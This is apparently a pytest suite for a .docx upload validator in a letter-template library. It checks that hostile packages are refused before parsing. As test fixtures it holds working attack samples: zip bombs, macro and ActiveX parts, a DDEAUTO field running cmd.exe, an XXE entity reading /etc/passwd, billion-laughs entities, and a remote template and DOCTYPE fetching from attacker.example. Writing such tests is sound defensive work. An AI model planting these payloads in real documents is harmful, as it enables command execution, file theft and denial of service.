"""check_package: hostile .docx packages are refused with a reason before anything unzips or parses them."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import pytest

from letter_templates.library import BUILTIN_DIR
from letter_templates.lint import lint_template
from letter_templates.package_check import MAX_PACKAGE_BYTES, MAX_PARTS, check_package

from .docx_factory import reminder_docx
from .hostile_docx import add_content_type, add_rel, in_body, lie_about_size, rewrite, with_doctype, zip_bomb

RELS = "word/_rels/document.xml.rels"
MiB = 1024 * 1024


def _checked_with_peak(data: bytes) -> tuple[list, int]:
    """The problems and the peak memory Python allocated while checking."""
    tracemalloc.start()
    try:
        problems = check_package(data)
        return problems, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb(300)  # document.xml inflates to 300 MB


def test_builtins_and_a_word_letter_pass() -> None:
    for path in BUILTIN_DIR.glob("*.docx"):
        assert check_package(path.read_bytes()) == [], path.name
    assert check_package(reminder_docx()) == []


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating_it(bomb: bytes) -> None:
    assert len(bomb) < MAX_PACKAGE_BYTES  # small enough to upload: the content is the attack
    problems, peak = _checked_with_peak(bomb)
    [problem] = problems
    assert problem.code == "unpacks_too_large"
    assert "unpacks to 300." in problem.message and "at most 50.0 MB" in problem.message
    assert peak < 5 * MiB + 2 * len(bomb)  # nothing was inflated


def test_a_bomb_under_the_total_cap_is_refused_by_its_compression_ratio() -> None:
    [problem] = check_package(zip_bomb(40))
    assert problem.code == "unpacks_too_large" and problem.location == "word/document.xml"
    assert "compressed" in problem.message and "at most 100 to 1" in problem.message


def test_a_bomb_whose_headers_lie_about_its_size_is_stopped_while_reading(bomb: bytes) -> None:
    liar = lie_about_size(bomb, "word/document.xml", 100_000)
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo("word/document.xml").file_size == 100_000
    started = time.perf_counter()
    problems, peak = _checked_with_peak(liar)
    [problem] = problems
    assert problem.location == "word/document.xml"
    assert problem.code in ("unpacks_too_large", "not_a_docx")  # stopped at the claimed size either way
    assert peak < 5 * MiB + 2 * len(liar)  # not 300 MB
    assert time.perf_counter() - started < 5  # it did not inflate 300 MB to find out
    assert lint_template(liar) == [problem]  # the lint (and so every render) refuses it before python-docx


def test_a_file_over_the_upload_cap_is_too_large() -> None:
    [problem] = check_package(b"PK" + b"\0" * MAX_PACKAGE_BYTES)
    assert problem.code == "too_large" and "5.0 MB" in problem.message


def test_thousands_of_parts_are_refused() -> None:
    many = rewrite(reminder_docx(), {f"word/media/x{i}.png": b"" for i in range(MAX_PARTS)})
    [problem] = check_package(many)
    assert problem.code == "too_many_parts" and f"at most {MAX_PARTS}" in problem.message


def test_vba_macros_are_refused() -> None:
    docm = rewrite(reminder_docx(), {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
        "[Content_Types].xml": lambda xml: add_content_type(
            xml, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')})
    problems = check_package(docm)
    assert problems and {p.code for p in problems} == {"macros"}
    assert "macros" in problems[0].message and ".docx" in problems[0].message


def test_a_macro_enabled_main_part_is_refused_even_without_the_macro_file() -> None:
    enabled = rewrite(reminder_docx(), {"[Content_Types].xml": lambda xml: xml.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")})
    [problem] = check_package(enabled)
    assert problem.code == "macros"


@pytest.mark.parametrize("filename", ["aanmaning.docm", "Herinnering.DOTM"])
def test_macro_enabled_file_names_are_refused(filename: str) -> None:
    [problem] = check_package(reminder_docx(), filename)
    assert problem.code == "macros" and filename in problem.message


@pytest.mark.parametrize("part", ["word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin",
                                  "word/embeddings/Microsoft_Excel_Worksheet.xlsx"])
def test_activex_controls_and_ole_embeddings_are_refused(part: str) -> None:
    data = b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>" if part.endswith(".xml") else b"x"
    [problem] = check_package(rewrite(reminder_docx(), {part: data}))
    assert problem.code == "embedded_object" and part in problem.message


def test_an_external_image_is_refused_with_its_address() -> None:
    tracked = rewrite(reminder_docx(), {RELS: lambda xml: add_rel(xml, (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://tracker.example/pixel.png?letter=42" TargetMode="External"/>'))})
    [problem] = check_package(tracked)
    assert problem.code == "external_link" and problem.location == RELS
    assert "http://tracker.example/pixel.png" in problem.message and "(image)" in problem.message


@pytest.mark.parametrize("target", ["https://betaal.example/f/2026-0142", "mailto:debiteuren@vandijk.example"])
def test_ordinary_web_and_mail_links_are_allowed(target: str) -> None:
    linked = rewrite(reminder_docx(), {RELS: lambda xml: add_rel(xml, (
        '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'hyperlink" Target="{target}" TargetMode="External"/>'))})
    assert check_package(linked) == []


@pytest.mark.parametrize("target", ["file:///etc/passwd", "\\\\attacker\\share\\x", "javascript:alert(1)"])
def test_hyperlinks_to_files_shares_or_scripts_are_refused(target: str) -> None:
    linked = rewrite(reminder_docx(), {RELS: lambda xml: add_rel(xml, (
        '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'hyperlink" Target="{target}" TargetMode="External"/>'))})
    [problem] = check_package(linked)
    assert problem.code == "external_link"


def test_an_attached_remote_template_is_refused() -> None:
    settings_rels = "word/_rels/settings.xml.rels"
    attached = rewrite(reminder_docx(), {settings_rels: (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://attacker.example/evil.dotm" TargetMode="External"/></Relationships>')})
    [problem] = check_package(attached)
    assert problem.code == "external_link" and "attachedTemplate" in problem.message


@pytest.mark.parametrize("code", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
                                  'INCLUDEPICTURE "http://tracker.example/p.png" \\d'])
def test_fields_that_fetch_or_run_something_are_refused(code: str) -> None:
    field = rewrite(reminder_docx(), {"word/document.xml": in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'{code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')})
    [problem] = check_package(field)
    assert problem.code == "external_link" and code.split()[0] in problem.message


def test_an_external_entity_reading_etc_passwd_is_refused_and_never_read() -> None:
    xxe = rewrite(reminder_docx(), {"word/document.xml": with_doctype(
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")})
    [problem] = check_package(xxe)
    assert problem.code == "xml_entities" and problem.location == "word/document.xml"
    assert "root:" not in str(problem)
    for found in lint_template(xxe):
        assert "root:" not in str(found)


def test_billion_laughs_is_refused_quickly_and_in_little_memory() -> None:
    entities = '<!ENTITY lol "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    laughs = rewrite(reminder_docx(), {"word/document.xml": with_doctype(
        f"<!DOCTYPE w:document [{entities}]>", "&lol9;")})
    started = time.perf_counter()
    problems, peak = _checked_with_peak(laughs)
    assert [p.code for p in problems] == ["xml_entities"]
    assert peak < 5 * MiB and time.perf_counter() - started < 2  # 10**9 "lol"s were never expanded


def test_a_doctype_in_a_relationships_part_is_refused_too() -> None:
    rels = rewrite(reminder_docx(), {RELS: lambda xml: xml.replace(
        b"<Relationships", b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><Relationships', 1)})
    [problem] = check_package(rels)
    assert problem.code == "xml_entities" and problem.location == RELS
